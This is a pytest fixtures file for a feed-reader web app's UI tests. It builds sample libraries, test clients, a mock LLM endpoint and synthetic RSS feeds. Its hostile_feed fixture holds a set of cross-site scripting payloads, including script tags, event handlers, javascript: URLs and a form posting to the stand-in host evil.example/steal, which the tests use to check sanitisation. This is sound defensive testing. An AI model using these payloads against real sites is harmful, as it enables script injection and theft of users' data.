"""Fixtures for the web UI: a library built from the bundled samples, app clients, feeds to serve.

Route tests use Starlette's TestClient against ``create_app``; browser tests
(test_browser.py) run the app with uvicorn in a thread and drive the system
Chromium through Playwright.
"""

from __future__ import annotations

import shutil
import sys
import types
import warnings
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from email.utils import format_datetime
from pathlib import Path
from typing import Any

import pytest

import highsignal
from highsignal.cli import sample_dir
from highsignal.config import config_path
from highsignal.web import create_app
from highsignal.web.settings import ServerSettings
from tests.llmserver import LLMServer

with warnings.catch_warnings():
    # Starlette's TestClient asks for httpx2 over httpx; either works for these tests.
    warnings.filterwarnings("ignore", message="Using `httpx` with `starlette.testclient`")
    from fastapi.testclient import TestClient

BASE_URL = "http://127.0.0.1"


def pytest_configure(config: pytest.Config) -> None:
    config.addinivalue_line(
        "markers",
        "fake_ask: runs against a stand-in for highsignal.ask (switch to the real module by dropping the fixture)",
    )
    config.addinivalue_line("markers", "browser: drives the system Chromium through Playwright")


@pytest.fixture(scope="session")
def sample_db(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A library holding the five bundled sample feeds, assessed (built once per session)."""
    path = tmp_path_factory.mktemp("web-samples") / "samples.sqlite"

    def build() -> None:
        with highsignal.open(path) as lib:
            lib.import_opml(sample_dir() / "subscriptions.opml")
            lib.refresh()

    with pytest.MonkeyPatch.context() as mp:
        mp.setenv("HIGHSIGNAL_CONFIG", str(path.parent / "absent.toml"))
        # In a thread: refresh runs its own event loop, and Playwright's sync API may hold one in this thread.
        with ThreadPoolExecutor(1) as pool:
            pool.submit(build).result()
    return path


@pytest.fixture
def db(sample_db: Path, tmp_path: Path) -> Path:
    copy = tmp_path / "lib.sqlite"
    shutil.copy(sample_db, copy)
    return copy


@pytest.fixture
def config_file() -> Path:
    """The config file this test's server reads (set by the suite's autouse fixture; absent at first)."""
    return config_path()


def client_for(db: Path, settings: ServerSettings | None = None, **kw: Any) -> TestClient:
    app = create_app(db, settings=settings or ServerSettings(), **kw)
    return TestClient(app, base_url=BASE_URL)


@pytest.fixture
def client(db: Path) -> Iterator[TestClient]:
    with client_for(db) as c:
        yield c


@pytest.fixture
def empty_client(tmp_path: Path) -> Iterator[TestClient]:
    with client_for(tmp_path / "empty.sqlite") as c:
        yield c


@pytest.fixture
def llm(config_file: Path) -> Iterator[LLMServer]:
    """A stand-in OpenAI-compatible endpoint on loopback, configured under ``[ask]`` (it counts requests)."""
    srv = LLMServer().start()
    config_file.write_text(
        f'[ask]\nbase_url = "{srv.base_url}"\nmodel = "test-model"\napi_key = "sekrit"\ntimeout = 5\n',
        encoding="utf-8",
    )
    try:
        yield srv
    finally:
        srv.stop()


def csrf(client: TestClient) -> str:
    """This client's CSRF token (the session cookie is set on the way)."""
    return client.get("/api/session").json()["csrf"]


def item_ids(client: TestClient, **params: str) -> list[int]:
    data = client.get("/api/digest", params={"since": "all", **params}).json()
    return [e["id"] for e in data["items"]]


# -- feeds ------------------------------------------------------------------------


def rss(title: str, items: list[dict[str, str]], *, extra: str = "") -> bytes:
    """A small RSS 2.0 feed; item values are inserted as given (callers escape or CDATA them)."""
    body = []
    for it in items:
        parts = [f"<{k}>{v}</{k}>" for k, v in it.items() if k != "raw"]
        body.append("<item>" + "".join(parts) + it.get("raw", "") + "</item>")
    return (
        '<?xml version="1.0" encoding="utf-8"?>\n<rss version="2.0" '
        'xmlns:content="http://purl.org/rss/1.0/modules/content/"><channel>'
        f"<title>{title}</title><link>https://example.org/</link><description>test feed</description>{extra}"
        + "".join(body)
        + "</channel></rss>"
    ).encode()


def when(days_ago: float) -> str:
    return format_datetime(datetime.now(UTC) - timedelta(days=days_ago))


def good_feed() -> bytes:
    """Recent items with checkable artefacts, so the digest of the last week has them."""
    return rss(
        "Loopback Lab Notes",
        [
            {
                "title": "Orca-7B released with open weights under Apache-2.0",
                "link": "https://example.org/orca-7b",
                "guid": "orca-7b",
                "pubDate": when(0.5),
                "description": (
                    "<![CDATA[<p>We release Orca-7B, a 7B parameter model. Weights: "
                    '<a href="https://huggingface.co/example/orca-7b">huggingface.co/example/orca-7b</a>, '
                    'code: <a href="https://github.com/example/orca">github.com/example/orca</a>, paper: '
                    '<a href="https://arxiv.org/abs/2501.01234">arXiv:2501.01234</a>. Licence: Apache-2.0. '
                    "It scores 68.2 on MMLU and 31.0 on GPQA; evaluation code and seeds are in the repo. "
                    "Quantization notes for vLLM inference are included.</p>]]>"
                ),
            },
            {
                "title": "Notes on evaluating small language models",
                "link": "https://example.org/eval-notes",
                "guid": "eval-notes",
                "pubDate": when(1.5),
                "description": (
                    "<![CDATA[<p>How we evaluate small models: held-out sets, contamination checks and "
                    'confidence intervals. Data: <a href="https://huggingface.co/datasets/example/evalset">'
                    "the eval set</a>.</p>]]>"
                ),
            },
            {
                "title": "Episode 12: distillation in practice",
                "link": "https://example.org/ep12",
                "guid": "ep12",
                "pubDate": when(2.5),
                "description": "<![CDATA[<p>A conversation about distillation and synthetic data.</p>]]>",
            },
        ],
    )


#: What the parser keeps of the hostile title (it drops the tags): characters a page must escape.
HOSTILE_TITLE = "Hostile post <3 \"quoted\" & 'apos'"


def hostile_feed() -> bytes:
    """Every trick a feed could try on a page: scripts, handlers, javascript: links, frames, styles."""
    html = (
        "<p>Before the payload.</p>"
        "<script>window.__pwned = 'script'; alert('script')</script>"
        "<img src=\"x\" onerror=\"window.__pwned = 'img'; alert('img')\">"
        '<a href="javascript:alert(\'link\')" id="jslink">click me</a> '
        '<a href="https://example.org/fine" onclick="alert(\'click\')">fine link</a>'
        "<iframe src=\"javascript:alert('frame')\"></iframe>"
        "<svg onload=\"alert('svg')\"><script>alert('svg script')</script></svg>"
        '<div style="background:url(javascript:alert(1))" onmouseover="alert(\'hover\')">styled</div>'
        '<form action="https://evil.example/steal"><input name="x"><button>go</button></form>'
        '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">'
        "<math><mi xlink:href=\"javascript:alert('math')\">x</mi></math>"
        "<p>After the payload, about open weights.</p>"
    )
    return rss(
        "Hostile &lt;b&gt;Feed&lt;/b&gt;",
        [
            {
                "title": "<![CDATA[Hostile post <3 \"quoted\" & 'apos'<script>window.__pwned = 1</script>]]>",
                "link": "javascript:alert('item link')",
                "guid": "hostile-1",
                "pubDate": when(0.2),
                "description": f"<![CDATA[{html}]]>",
            }
        ],
    )


# -- a stand-in for highsignal.ask ---------------------------------------------------


@dataclass
class FakeCitation:
    n: int
    item_id: int
    title: str | None
    url: str | None
    source_title: str | None
    snippet: str
    start: float | None
    link: str


@dataclass
class FakeSentence:
    text: str
    citations: list[int]


@dataclass
class FakeAnswer:
    text: str
    mode: str
    sentences: list[FakeSentence] = field(default_factory=list)
    citations: list[FakeCitation] = field(default_factory=list)


#: ``offline`` of every call to the stand-in, in order.
FAKE_ASK_CALLS: list[bool] = []


def fake_ask_fn(lib: highsignal.Library, question: str, *, limit: int = 8, offline: bool = False) -> FakeAnswer:
    """Search, then quote the best hits as an extractive answer: the interface of ``highsignal.ask.ask``."""
    FAKE_ASK_CALLS.append(offline)
    words = [w.strip("?.,!").lower() for w in question.split() if len(w.strip("?.,!")) > 3]
    hits = []
    for w in words:
        hits += [h for h in lib.search(w, limit=limit) if h.item_id not in {x.item_id for x in hits}]
    hits = hits[:limit]
    if not hits:
        return FakeAnswer("I don't know from your feed.", "none")
    citations = [
        FakeCitation(n, h.item_id, h.title, h.url, h.source_title, h.snippet, 65.0 if n == 1 else None, h.url or "")
        for n, h in enumerate(hits, 1)
    ]
    sentences = [FakeSentence(f"{h.title} is relevant.", [n]) for n, h in enumerate(hits[:2], 1)]
    return FakeAnswer(" ".join(s.text for s in sentences), "extractive", sentences, citations)


@pytest.fixture
def fake_ask(monkeypatch: pytest.MonkeyPatch) -> None:
    """Install the stand-in as ``highsignal.ask`` (the route imports it lazily, so this wins)."""
    FAKE_ASK_CALLS.clear()
    module = types.ModuleType("highsignal.ask")
    module.ask = fake_ask_fn  # type: ignore[attr-defined]
    monkeypatch.setitem(sys.modules, "highsignal.ask", module)
